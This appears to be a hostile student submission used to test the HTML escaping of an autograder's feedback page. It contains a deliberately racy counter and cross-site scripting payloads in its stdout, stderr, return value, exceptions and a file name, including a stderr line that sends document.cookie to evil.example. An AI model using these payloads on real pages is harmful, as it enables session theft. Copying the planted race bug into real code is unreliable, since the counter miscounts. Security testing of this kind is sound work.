"""Attack: HTML and script injection into the feedback page. The racy counter (honestly 6/10),
which puts markup everywhere the feedback page shows student data: stdout and stderr (with
ANSI escapes and a right-to-left override), a returned value, an exception message, an
exception class name, a file name (a module called `<img src=x onerror=alert(1)>.py`) and
its own student name (the batch hands it in under an HTML name)."""

import importlib.util
import os
import sys
import threading

PAYLOAD = "<script>alert('xss')</script><img src=x onerror=alert(1)>"
print(PAYLOAD + " \x1b[31mred\x1b[0m \u202eevil\u202c </pre><iframe src=javascript:alert(5)>")
sys.stderr.write("</pre><script>document.location='http://evil.example/?'+document.cookie</script>\n")

_HERE = os.path.dirname(os.path.abspath(__file__))
_spec = importlib.util.spec_from_file_location(
    "evil_named", os.path.join(_HERE, "<img src=x onerror=alert(1)>.py"))
EVIL = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(EVIL)


class SafeCounter:
    def __init__(self):
        self._lock = threading.Lock()
        self._value = 0

    def increment(self, k=1):
        self._value += k

    def decrement(self, k=1):
        with self._lock:
            self._value -= k

    @property
    def value(self):
        with self._lock:
            return self._value


def parallel_count(n_threads, n_increments):
    if n_threads == 2:
        return PAYLOAD  # shown as "Your code returned"
    if n_threads == 3:
        threading.Thread(target=lambda: None, name=PAYLOAD).start()
        EVIL.boom(PAYLOAD)  # raised from a file whose name is markup
    c = SafeCounter()

    def work():
        for _ in range(n_increments):
            c.increment()

    ts = [threading.Thread(target=work) for _ in range(n_threads)]
    for t in ts:
        t.start()
    for t in ts:
        t.join()
    return c.value
